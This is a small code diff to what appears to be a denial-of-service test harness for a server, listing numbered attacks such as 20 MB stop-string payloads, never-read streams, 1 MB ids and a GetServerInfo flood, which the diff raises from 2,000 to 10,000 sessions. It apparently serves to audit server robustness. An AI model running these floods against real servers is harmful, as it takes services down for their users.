@@ -66,7 +66,7 @@ async def unread_stream(target: str, window: float) -> str:
     return f"held unread for {window:.0f} s, then disconnected"
 
 
-async def info_flood(target: str, window: float, sessions: int = 2000, rate: float = 70.0) -> str:
+async def info_flood(target: str, window: float, sessions: int = 10_000, rate: float = 70.0) -> str:
     async with Client(target) as c:
         for _ in range(sessions):
             await c.start_session()
@@ -84,7 +84,7 @@ ATTACKS: dict[str, tuple[str, Callable[[str, float], Awaitable[str]]]] = {
     "stop_strings": ("item 3: 20,000 stop strings of 1000 chars (20 MB)", stop_strings),
     "unread_stream": ("item 4: n=16 stream never read", unread_stream),
     "long_ids": ("item 5: 1 MB request and program ids", long_ids),
-    "info_flood": ("item 9: GetServerInfo at 70/s over 2000 sessions", info_flood),
+    "info_flood": ("item 9: GetServerInfo at 70/s over 10,000 sessions", info_flood),
 }
 
 
